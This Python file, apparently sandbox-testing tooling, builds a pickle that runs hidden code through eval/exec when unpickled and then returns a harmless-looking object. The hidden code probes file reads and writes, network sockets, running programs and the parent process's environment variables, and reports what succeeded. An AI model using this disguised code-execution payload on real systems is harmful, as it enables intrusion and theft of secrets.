"""A pickle that is code: what it tries when it is loaded, and what it reports of each try. It reads, looks and knocks, no more.

Its source is carried inside the pickle, so nothing of it needs to be installed where it is loaded.
"""

from __future__ import annotations

import inspect
import json
import pickle
from collections.abc import Mapping
from typing import Any

MARK = "CATALOGUE-REPORT "
Targets = Mapping[str, tuple[str, Any]]
_NOTHING = pickle.dumps(None)


def attempt(targets: dict) -> dict:
    """name → "done", or the name of the error. This source is all that travels: imports stand inside, types are plain."""
    import glob
    import os
    import pathlib
    import socket
    import subprocess

    def udp(port: int) -> None:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"", ("127.0.0.1", port))

    doing: dict[str, Any] = {
        "read": lambda path: pathlib.Path(path).read_bytes(),
        "list": os.listdir,
        "write": lambda path: pathlib.Path(path).write_text("x"),
        "link": lambda path: os.symlink("/etc", path),
        "tcp": lambda address: socket.create_connection(tuple(address), 2).close(),
        "udp": udp,
        "unix": lambda path: socket.socket(socket.AF_UNIX).connect(path),
        "signal": lambda _: os.kill(os.getppid(), 0),
        "environment": lambda _: pathlib.Path(f"/proc/{os.getppid()}/environ").read_bytes(),
        "run": lambda program: subprocess.run([program, "-c", "true"], check=True),
        "own": lambda pattern: next(pathlib.Path(found).stat() for found in glob.glob(pattern)),
    }
    said = {}
    for name, (kind, target) in targets.items():
        try:
            doing[kind](target)
            said[name] = "done"
        except BaseException as error:
            said[name] = type(error).__name__
    return said


class Hostile:
    """Unpickled, it runs `attempt`, writes what came of it to standard output, and is then what `disguise` unpickles to."""

    def __init__(self, targets: Targets, disguise: bytes = _NOTHING) -> None:
        self.targets, self.disguise = dict(targets), disguise

    def __reduce__(self) -> tuple[Any, ...]:
        source = inspect.getsource(attempt)
        code = f"{source}\nimport json\nprint({MARK!r} + json.dumps(attempt({self.targets!r})), flush=True)"
        return eval, (f"(exec({code!r}, {{}}), __import__('pickle').loads({self.disguise!r}))[1]",)


def reported(log: str) -> dict[str, str]:
    """What the latest load said; {} where none did."""
    lines = [line for line in log.splitlines() if line.startswith(MARK)]
    found: dict[str, str] = json.loads(lines[-1].removeprefix(MARK)) if lines else {}
    return found
